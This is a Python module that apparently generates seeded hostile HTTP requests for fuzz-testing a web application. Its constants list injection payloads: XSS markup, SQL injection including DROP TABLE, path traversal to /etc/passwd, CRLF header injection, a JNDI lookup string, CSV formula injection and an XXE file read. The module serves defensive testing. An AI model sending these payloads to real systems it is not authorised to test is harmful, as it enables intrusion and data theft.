"""Hostile requests made from a seed: values that break readers, in every place where a request carries any."""

import random
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from io import BytesIO
from typing import Any
from urllib.parse import quote_from_bytes

MARK = "zqx"  # in every payload of markup, so that it can be found in an answer
MARKUP = (
    f"<{MARK} onmouseover=alert(1)>",
    f'"><{MARK}>',
    f"'><{MARK}><script>{MARK}()</script>",
    f"</title></textarea><{MARK}>",
    f"<!--{MARK}--><{MARK}/>",
    f"{{{{7*7}}}}<{MARK}>${{7*7}}{{% {MARK} %}}",
    f"javascript:{MARK}()",
    f"<svg/onload={MARK}>",
)
WORDS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\x1b[31m",
    "\x7f\x85",
    "\ud7ff\ue000\uffff",
    "\u202egnp.exe",
    "\u2066\u2067\u2069",
    "\ufeff\u200b\u200d",
    "Z̸̧̛̰͎͓͉͚̈́̓̈́͝a̴l̶g̷o̸" * 20,
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "廉" * 400,
    "محمد" * 80,
    "-1",
    "0",
    "1e309",
    "NaN",
    "0x7fffffff",
    "²",
    "٣",
    str(2**31),
    str(2**63),
    "9" * 400,
    "9" * 5_000,
    "../../../../etc/passwd",
    "..\\..\\boot.ini",
    "%00%0d%0a",
    "\r\nSet-Cookie: zqx=1",
    "\r\n\r\n<zqx>",
    "' OR '1'='1' --",
    "1; DROP TABLE profile",
    '"; SELECT pg_sleep(9); --',
    "%s%n%x{0}{__class__}",
    "${jndi:ldap://zqx.example/a}",
    "=1+1",
    "@SUM(A1)",
    "[]",
    "{}",
    "null",
    "true",
    '{"$gt": ""}',
    "EXP-000000",
    "EXP-" + "A" * 300,
    "2026-02-30",
    "9999-12-31",
    "en-US-u-ca-islamic",
    "A" * 2_000,
    "A" * 100_000,
    "*" * 200,
    '"' * 199,
    "- -- ---",
    "OR " * 90,
    "a* b* c* d*",
    "(" * 150,
    "\\" * 150,
)
HEADS = (
    ("Accept-Language", "zz;q=9,,;;=,\x7f"),
    ("Accept-Language", "en;q=" + "9" * 400),
    ("Cookie", "session=" + "A" * 3_000),
    ("Cookie", "session=.eJw; session=a; language=<zqx>; =; ;;"),
    ("Cookie", "device=a.b.c; language=../../x"),
    ("Origin", "http://["),
    ("Referer", "http://localhost/\\@evil.example"),
    ("X-Forwarded-For", "127.0.0.1, <zqx>"),
    ("X-Forwarded-Host", "evil.example"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("If-None-Match", '"*"' * 99),
    ("Range", "bytes=0-,5-1,-"),
    ("Content-Length", "-1"),
    ("X-Requested-With", "<zqx>"),
)
FILES = (
    ("people.csv", b"\xff\xfe\x00"),
    ("people.csv", b"family name,country\n" + b"\x00" * 400),
    ("people.csv", b'"' * 4_000),
    ("people.csv", b"family name\n<zqx>,=1+1,\xe2\x80\xae\n"),
    ("../../people.csv", b"family name\nA\n"),
    ("people.xlsx", b"PK\x03\x04" + b"\x00" * 400),
    ("people.xlsx", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    ("<zqx>.csv", b"\xef\xbb\xbf"),
    ("a" * 300 + ".csv", b"name\nA\n"),
    ("people.exe", b"MZ"),
    ("people.csv", b""),
)


@dataclass(frozen=True)
class Request:
    """What is sent, as the test client takes it."""

    method: str
    path: str
    options: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class Place:
    """Where hostile values go: an address with gaps, and the fields that its form sends."""

    path: str
    fields: Mapping[str, object] | None = None
    has_file: bool = False


def make_request(place: Place, chance: random.Random) -> Request:
    """One hostile request at this place."""
    path = place.path
    while "*" in path:
        path = path.replace("*", quote_from_bytes(_bytes(chance)[:1_500], safe="") or "x", 1)
    options: dict[str, Any] = {"headers": []}
    if chance.random() < 0.5:
        path += "?" + _query(chance)
    if chance.random() < 0.15:
        name, value = chance.choice(HEADS)
        options["headers"] = [(name, value.encode("latin-1", "replace").decode("latin-1"))]
    if place.fields is None:
        return Request("GET", path, options)
    options |= _body(place, chance)
    return Request("POST", path, options)


def _body(place: Place, chance: random.Random) -> dict[str, Any]:
    kind = chance.random()
    if kind < 0.06:
        return {
            "data": _bytes(chance),
            "content_type": chance.choice(("application/json", "text/xml", "a", "")),
        }
    if kind < 0.12:
        return {"data": b"--x\r\nContent-Disposition: form-data; name=" + _bytes(chance)[:900],
                "content_type": "multipart/form-data; boundary=x"}  # fmt: skip
    data = dict(place.fields or {})
    for _change in range(chance.randint(1, 4)):
        _spoil(data, chance)
    if place.has_file:
        name, content = chance.choice(FILES)
        data["file"] = (BytesIO(content), name)
    return {"data": data}


def _spoil(data: dict[str, object], chance: random.Random) -> None:
    names = [name for name in data if name != "csrf_token"] or ["a"]
    name = chance.choice(names)
    what = chance.random()
    if what < 0.08:
        data.pop(name, None)
    elif what < 0.16:
        data[name + chance.choice(("[]", "-0", "-²-x", ".a", "\0", "-" + "9" * 5_000 + "-a"))] = _value(
            chance
        )
    elif what < 0.24:
        data[name] = [_value(chance) for _ in range(chance.randint(2, 30))]
    else:
        data[name] = _value(chance)


def _query(chance: random.Random) -> str:
    names = ("q", "page", "sort", "state", "fresh", "topic", "gender", "available_from", "available_to", "list",
             "next", "lang", "endpoint", "_external", "_anchor", "open", "other", "ref", "kind")  # fmt: skip
    parts = []
    for _part in range(chance.randint(1, 4)):
        name = chance.choice(names) if chance.random() < 0.9 else quote_from_bytes(_bytes(chance)[:60])
        parts.append(f"{name}={quote_from_bytes(_bytes(chance)[:6_000])}")
    return "&".join(parts)


def _bytes(chance: random.Random) -> bytes:
    makers: tuple[Callable[[], bytes], ...] = (
        lambda: _value(chance).encode("utf-8", "surrogatepass"),
        lambda: _value(chance).encode("utf-16", "surrogatepass"),
        lambda: bytes(chance.randrange(256) for _ in range(chance.randint(1, 60))),
        lambda: "\udcff\ud800".encode("utf-8", "surrogatepass"),
    )
    return chance.choices(makers, weights=(8, 1, 2, 1))[0]()


def _value(chance: random.Random) -> str:
    if chance.random() < 0.35:
        return chance.choice(MARKUP)
    word = chance.choice(WORDS)
    return word + chance.choice(MARKUP) if chance.random() < 0.15 else word
